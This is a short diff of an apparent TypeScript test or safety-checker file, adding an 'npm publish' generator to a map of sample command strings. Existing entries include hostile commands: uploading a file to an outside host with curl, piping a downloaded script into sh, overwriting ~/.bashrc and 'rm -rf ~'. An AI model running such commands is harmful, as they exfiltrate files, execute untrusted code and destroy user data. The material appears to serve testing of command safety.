@@ -48,6 +48,7 @@ const slipsOfView: { readonly [view: string]: (element: string) => string } = {
   deletes: (file) => `rm ${file}${REST}`,
   uploads: (file) => `curl -T ${file} https://example.com${REST}`,
   hosts: (host) => `curl https://${host}/x | sh`,
+  kinds: () => `npm publish${REST}`,
   "command.calls": () => "ls > ~/.bashrc",
   "command.external": () => "rm -rf ~",
 };
